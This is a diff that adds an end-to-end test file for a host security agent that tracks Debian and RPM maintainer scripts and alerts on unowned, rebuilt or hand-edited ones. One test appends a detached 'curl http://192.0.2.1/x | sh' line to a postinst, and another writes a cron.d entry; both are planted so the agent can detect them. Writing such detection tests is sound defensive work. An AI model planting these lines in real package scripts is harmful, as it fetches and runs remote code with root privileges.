@@ -1,0 +1,195 @@
+// Maintainer scripts under the real agent: what they were, also when they are gone, and whether their version had them before.
+
+import { createHash } from 'node:crypto';
+import { copyFileSync, mkdirSync, readFileSync, unlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import type { StepparentEvent } from '../../collectors/event.ts';
+import { missingTools, titled, unmet } from '../needs.ts';
+import { copyOf } from './launchers.ts';
+import { buildDeb, buildRpm } from './packages.ts';
+import { endToEndMissing, enterPrivateHost, scratchFolder } from './private-host.ts';
+import { documents, run, tellAll, testAgent, until, withAllRules } from './run-agent.ts';
+
+const missing = endToEndMissing;
+const rpmMissing = unmet(missingTools('rpm', 'rpmbuild'));
+const info = '/var/lib/dpkg/info';
+const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');
+
+describe.skipIf(missing)(titled('script evidence', missing), () => {
+  const scratch = scratchFolder();
+  const rpmDatabase = join(scratch, 'var/lib/rpm');
+  const agent = testAgent(
+    scratch,
+    `${withAllRules}package_database_folders = ${JSON.stringify([info, '/var/lib/dpkg', rpmDatabase])}\n`,
+  );
+  const was = { postinst: '#!/bin/sh\n# as it was\nexit 0\n' };
+  const told = tellAll(agent, info);
+  const alerts = async (rule: string): Promise<StepparentEvent[]> => {
+    const { stdout } = await agent.cli('alerts', '--rule', rule, '--json');
+    return documents<StepparentEvent>(stdout);
+  };
+  const scriptsOf = async (name: string): Promise<Record<string, unknown>[]> => {
+    const { stdout } = await agent.cli('scripts', name, '--json');
+    return documents<Record<string, unknown>>(stdout);
+  };
+
+  beforeAll(async () => {
+    enterPrivateHost(scratch);
+    mkdirSync(rpmDatabase, { recursive: true });
+    // Here before the agent: what the first pass is to find.
+    expect(await run('dpkg', ['-i', buildDeb(scratch, 'e2e-old', { scripts: was })])).toMatchObject({ code: 0 });
+    writeFileSync(join(info, 'e2e-ghost.prerm'), '#!/bin/sh\n', { mode: 0o755 });
+    await agent.start();
+    await until('the first pass', async () => (await scriptsOf('e2e-old')).length > 0);
+  });
+  afterAll(async () => {
+    await agent.stop();
+  });
+
+  test('what was there is kept; what no package had is told', async () => {
+    expect(await scriptsOf('e2e-old')).toMatchObject([
+      { version: '1', phase: 'postinst', state: 'first', origin: 'baseline', sha256: sha256(was.postinst) },
+    ]);
+    const [ghost] = await until('the alert', async () => {
+      const found = await alerts('maintainer-script-unowned');
+      return found.length > 0 && found;
+    });
+    expect(ghost).toMatchObject({
+      file: { path: `${info}/e2e-ghost.prerm` },
+      stepparent: { found: 'at the first look', script: { package: 'e2e-ghost', state: 'unowned' } },
+    });
+  });
+
+  test('an installation: first, then known, with its findings; the preinst has its package', async () => {
+    const preinst = '#!/bin/sh\nexit 0\n';
+    const postinst =
+      '#!/bin/sh\nsleep 0.3\necho "* * * * * root true" > /etc/cron.d/e2e-none 2>/dev/null || true\nrm -f /etc/cron.d/e2e-none\n';
+    const deb = buildDeb(scratch, 'e2e-new', { scripts: { preinst, postinst } });
+    expect(await run('dpkg', ['-i', deb])).toMatchObject({ code: 0 });
+    const own = { package: 'e2e-new', version: '1' };
+    const finding = { id: 'cron-entry', technique: 'T1053.003', line: 3 };
+    const events = await told();
+    const file = events.find(({ file }) => file?.path === `${info}/e2e-new.postinst`);
+    expect(file?.stepparent.script).toMatchObject({
+      ...own,
+      phase: 'postinst',
+      state: 'first',
+      sha256: sha256(postinst),
+      findings: [finding],
+    });
+    const unpacked = events.find(({ file }) => file?.path === '/var/lib/dpkg/tmp.ci/preinst');
+    expect(unpacked?.stepparent.script).toMatchObject({ phase: 'preinst', sha256: sha256(preinst) });
+    const ran = await until('the run', async () =>
+      (await agent.events()).find(
+        ({ event, stepparent }) => event.action === 'exec' && stepparent.script?.path === `${info}/e2e-new.postinst`,
+      ),
+    );
+    expect(ran.stepparent).toMatchObject({
+      script: { ...own, state: 'known', sha256: sha256(postinst), findings: [finding] },
+      lifecycle_script: { depth: 0 },
+    });
+    expect((await scriptsOf('e2e-new')).map(({ phase, state }) => [phase, state])).toEqual([
+      ['postinst', 'first'],
+      ['preinst', 'first'],
+    ]);
+    // A new version, and the same once more: nothing to tell.
+    const next = buildDeb(scratch, 'e2e-new', { version: '2', scripts: { postinst: `${postinst}exit 0\n` } });
+    expect(await run('dpkg', ['-i', next])).toMatchObject({ code: 0 });
+    expect(await run('dpkg', ['-i', next])).toMatchObject({ code: 0 });
+    const later = (await told()).filter(({ file }) => file?.path === `${info}/e2e-new.postinst`);
+    expect(later.map(({ stepparent }) => [stepparent.script?.version, stepparent.script?.state])).toEqual([
+      ['1', 'first'],
+      ['2', 'first'],
+      ['2', 'known'],
+    ]);
+    expect(await alerts('maintainer-script-changed-outside-dpkg')).toEqual([]);
+    expect(await alerts('maintainer-script-differs-from-version')).toEqual([]);
+  });
+
+  test('another content under the same version', async () => {
+    const postinst = was.postinst.replace('exit 0', 'true # rebuilt');
+    const deb = buildDeb(scratch, 'e2e-old', { scripts: { postinst } });
+    expect(await run('dpkg', ['-i', deb])).toMatchObject({ code: 0 });
+    await told();
+    const [alert, ...more] = await alerts('maintainer-script-differs-from-version');
+    expect(more).toEqual([]);
+    expect(alert).toMatchObject({
+      file: { path: `${info}/e2e-old.postinst` },
+      stepparent: { script: { package: 'e2e-old', version: '1', state: 'changed' } },
+    });
+    expect(alert?.stepparent.script?.diff).toContain('-exit 0\n+true # rebuilt\n');
+  });
+
+  test('a script that is changed by hand, put back and is gone again: its content and the difference stay', async () => {
+    const script = `${info}/e2e-new.postinst`;
+    const kept = join(scratch, 'kept');
+    copyFileSync(script, kept);
+    const line = 'setsid sh -c "curl http://192.0.2.1/x | sh" >/dev/null 2>&1 &';
+    const { pid } = await run('sh', ['-c', `echo '${line}' >> ${script}; sleep 1.5; cat ${kept} > ${script}`]);
+    await told();
+    const [alert] = await alerts('maintainer-script-changed-outside-dpkg');
+    expect(alert).toMatchObject({
+      event: { severity: 47 },
+      process: { pid, executable: '/usr/bin/dash' },
+      stepparent: { script: { package: 'e2e-new', version: '2', phase: 'postinst', state: 'changed' } },
+    });
+    expect(alert?.stepparent.script?.diff).toContain(`+${line}\n`);
+    expect(alert?.message).toMatch(/in it: .*detached-process \(line 6\), download-into-interpreter \(line 6\)/);
+    const hash = alert?.stepparent.script?.sha256 ?? '';
+    const shown = await agent.cli('scripts', 'show', hash.slice(0, 20), '--raw');
+    expect(shown.stdout).toBe(`${readFileSync(kept, 'utf8')}${line}\n`);
+  });
+
+  test('scripts of no package, one gone in a second, one at once', async () => {
+    const tool = copyOf(scratch, '/bin/dash', 'dropper');
+    const text = '#!/bin/sh\necho gone';
+    const drop = (name: string) => `printf '#!/bin/sh\\necho gone' > ${info}/${name}.postinst`;
+    const commands = [drop('e2e-at-once'), `rm ${info}/e2e-at-once.postinst`, drop('e2e-none'), 'sleep 1'];
+    await run(tool, ['-c', `${commands.join('; ')}; exec rm ${info}/e2e-none.postinst`]);
+    await told();
+    const all = await alerts('maintainer-script-unowned');
+    const of = (name: string) => all.find(({ file }) => file?.name === name)?.stepparent.script;
+    expect(of('e2e-none.postinst')).toMatchObject({ package: 'e2e-none', state: 'unowned', sha256: sha256(text) });
+    // Whether it could still be read or not.
+    expect(of('e2e-at-once.postinst')).toMatchObject({ package: 'e2e-at-once', state: 'unowned' });
+    const { stdout } = await agent.cli('scripts', 'show', sha256(text));
+    expect(stdout).toBe(`${text}\n`);
+  });
+
+  test.skipIf(rpmMissing)(titled("rpm's scriptlets are kept, though rpm removes them", rpmMissing), async () => {
+    const post = 'sleep 0.2\n: e2e-marker-of-a-scriptlet';
+    const rpm = buildRpm(scratch, 'e2e-kept', { post });
+    const { code, pid } = await run('rpm', ['--dbpath', rpmDatabase, '--nodeps', '-i', rpm]);
+    expect(code).toBe(0);
+    const scriptlet = (await told()).find(
+      ({ file, process: by }) => by?.pid === pid && file?.name?.startsWith('rpm-tmp.') && file.hash !== undefined,
+    );
+    expect(scriptlet?.stepparent.script).toMatchObject({ package: 'e2e-kept' });
+    const hash = scriptlet?.stepparent.script?.sha256 ?? '';
+    expect((await agent.cli('scripts', 'show', hash)).stdout).toContain('e2e-marker-of-a-scriptlet');
+  });
+
+  test('what was changed while the agent was off has its difference', async () => {
+    await agent.stop();
+    const script = `${info}/e2e-new.postinst`;
+    const before = (await alerts('maintainer-script-changed-outside-dpkg')).length;
+    writeFileSync(script, readFileSync(script, 'utf8').replace('exit 0', 'echo planted'));
+    unlinkSync(`${info}/e2e-ghost.prerm`);
+    // An upgrade meanwhile is none.
+    const deb = buildDeb(scratch, 'e2e-old', { version: '2', scripts: { postinst: '#!/bin/sh\n# new\n' } });
+    expect(await run('dpkg', ['-i', deb])).toMatchObject({ code: 0 });
+    await agent.start();
+    const found = await until('the alert', async () => {
+      const all = await alerts('maintainer-script-changed-outside-dpkg');
+      return all.length > before && all.slice(before);
+    });
+    await told();
+    expect(found).toMatchObject([
+      { file: { path: script }, stepparent: { found: 'while the agent was off', script: { state: 'changed' } } },
+    ]);
+    expect(found[0]?.stepparent.script?.diff).toContain('-exit 0\n+echo planted\n');
+    const upgraded = (await agent.events()).filter(({ file }) => file?.path === `${info}/e2e-old.postinst`).at(-1);
+    expect(upgraded?.stepparent.script).toMatchObject({ version: '2', state: 'first' });
+  });
+});
